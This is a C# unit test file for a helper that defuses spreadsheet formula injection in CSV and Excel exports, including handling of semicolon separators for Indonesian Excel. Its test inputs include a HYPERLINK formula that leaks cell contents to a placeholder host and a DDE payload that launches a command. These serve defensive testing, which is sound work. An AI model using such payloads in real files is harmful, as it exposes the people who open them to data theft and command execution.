using ClosedXML.Excel;
using Pipeline.Core.Results;

namespace Pipeline.Core.Tests.Results;

public sealed class SafeCellTextTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"klik\")")]
    [InlineData("=1+1")]
    [InlineData("+1+1")]
    [InlineData("-1+1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("=cmd|' /C calc'!A0")]
    public void Text_a_spreadsheet_could_run_gets_a_quote_in_front_for_csv(string typed)
    {
        Assert.True(SafeCellText.StartsLikeFormula(typed));
        Assert.Equal("'" + typed, SafeCellText.ForCsv(typed));
    }

    [Theory]
    [InlineData("Siti Aminah")]
    [InlineData("0812-3456-7890")]
    [InlineData("1223011203800001")]
    [InlineData("Jl. Lintas Sumatera – Km 5")]
    [InlineData(" =1+1")]
    [InlineData("a=1+1")]
    [InlineData("'=1+1")]
    [InlineData("NIK_MISSING;NAME_MISSING")]
    public void Ordinary_text_is_left_as_it_is(string typed)
    {
        Assert.False(SafeCellText.StartsLikeFormula(typed));
        Assert.Same(typed, SafeCellText.ForCsv(typed));
    }

    [Theory]
    [InlineData(null, "")]
    [InlineData("", "")]
    [InlineData("=", "'=")]
    [InlineData("-", "'-")]
    public void Empty_and_one_character_values(string? typed, string expected) =>
        Assert.Equal(expected, SafeCellText.ForCsv(typed));

    [Theory]
    [InlineData("Dusun 3;=1+1", "Dusun 3;'=1+1")]
    [InlineData("a;b;@SUM(A1);c", "a;b;'@SUM(A1);c")]
    [InlineData("=1;+2", "'=1;'+2")]
    [InlineData("trailing;", "trailing;")]
    [InlineData(";-", ";'-")]
    public void Every_semicolon_segment_is_neutralised_because_indonesian_excel_splits_csv_on_semicolons(string typed, string expected)
    {
        var safe = SafeCellText.ForCsv(typed);

        Assert.Equal(expected, safe);
        Assert.DoesNotContain(safe.Split(';'), segment => SafeCellText.StartsLikeFormula(segment));
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://example.invalid\",\"klik\")")]
    [InlineData("=1+1")]
    [InlineData("@SUM(A1)")]
    [InlineData("Budi")]
    public void The_closedxml_recipe_in_the_remarks_writes_text_never_a_formula(string text)
    {
        var saved = new MemoryStream();
        using (var workbook = new XLWorkbook())
        {
            var cell = workbook.AddWorksheet("Laporan").Cell(1, 1);
            cell.SetValue(text);
            cell.Style.IncludeQuotePrefix = SafeCellText.StartsLikeFormula(text);
            workbook.SaveAs(saved);
        }

        saved.Position = 0;
        using var reread = new XLWorkbook(saved);
        var back = reread.Worksheet("Laporan").Cell(1, 1);
        Assert.False(back.HasFormula);
        Assert.Equal(text, back.GetString());
        Assert.Equal(SafeCellText.StartsLikeFormula(text), back.Style.IncludeQuotePrefix);
    }
}
